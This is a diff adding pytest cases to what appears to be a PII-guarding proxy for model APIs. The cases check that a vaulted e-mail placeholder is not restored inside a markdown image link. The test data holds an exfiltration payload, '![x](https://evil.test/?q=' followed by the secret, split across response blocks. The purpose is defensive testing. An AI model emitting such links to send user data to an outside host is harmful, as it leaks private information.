@@ -10,6 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from sentinel_core.dialects.sse import SseParser
+from sentinel_core.messages import TextEvent
 from sentinel_plugins.pii.restoration import Restoring
 from sentinel_plugins.pii.reversible import vault_for
 from sentinel_plugins.pii.vault import Vault
@@ -17,7 +18,8 @@ from tests.core.dialects.cuts import bytewise, cut, payloads
 from tests.plugins.guarding.guards import MAIL, SECRETS, SSN, Table
 from tests.plugins.guarding.test_streams import APIS, PLACES, Api, events_of, lanes_of, pieces, running
 from tests.plugins.pii.reversing import KEY, REVERSIBLE, put_back
-from tests.upstream.anthropic import message
+from tests.upstream.anthropic import ending, message, opening, text_block, tool_block
+from tests.upstream.payloads import response
 
 NAME = {"pattern": r'[A-Z]"[A-Z]\\', "max_length": 4}
 TABLE: Table = {**REVERSIBLE, "custom": {"OWN_SSN": SSN, "OWN_MAIL": MAIL, "OWN_NAME": NAME}}
@@ -131,3 +133,37 @@ def test_every_block_of_an_answer_keeps_its_text() -> None:
         {"type": "text", "text": "ann@acme.com three"},
         {"type": "text", "text": "four"},
     ]
+
+
+@pytest.mark.parametrize("direction", ["request", "both"])
+def test_a_target_that_is_spread_over_blocks_stays_one(direction: str) -> None:
+    """Clients join the blocks of a text, and what a guard held back comes after its block has ended."""
+    api, vault = asking("messages")
+    mail = vault.put(VALUES[0])
+    blocks = [
+        text_block(0, "![x](https://evil.test/?q="),
+        tool_block(1, "c", "f", "{}"),
+        text_block(2, mail, ") ", mail),
+    ]
+    wire = b"".join([opening(), *(frame for block in blocks for frame in block), *ending()])
+    with running(pii={**TABLE, "direction": direction}) as send:
+        text = lanes_of(events_of(api.dialect, [send(api, bytewise(wire))]))[0, "content", 0]
+    assert text == f"![x](https://evil.test/?q={mail}) ann@acme.com"
+    whole = message("![x](https://evil.test/?q=", f"{mail}) {mail}")
+    request = api.dialect.decode_request({"model": "fake", **api.body})
+    answer = Restoring(vault, request).answer(api.dialect.decode_answer(json.dumps(whole).encode()))
+    assert answer.body["content"][1]["text"] == f"{mail}) ann@acme.com"
+
+
+def test_a_target_that_is_spread_over_parts_of_a_response_stays_one() -> None:
+    api, vault = asking("responses")
+    mail = vault.put(VALUES[0])
+    body = response("![x](https://evil.test/?q=")
+    body["output"][0]["content"].append({"type": "output_text", "text": f"{mail}) {mail}", "annotations": []})
+    request = api.dialect.decode_request({"model": "fake", **api.body})
+    answer = Restoring(vault, request).answer(api.dialect.decode_answer(json.dumps(body).encode()))
+    assert answer.body["output"][0]["content"][1]["text"] == f"{mail}) ann@acme.com"
+    events = answer.dialect.stream_frames(api.dialect.decode_answer(json.dumps(body).encode()))
+    restoring = Restoring(vault, request)
+    texts = [restoring.event(event).text for event in events if isinstance(event, TextEvent)]
+    assert "".join(texts) == f"![x](https://evil.test/?q={mail}) ann@acme.com"
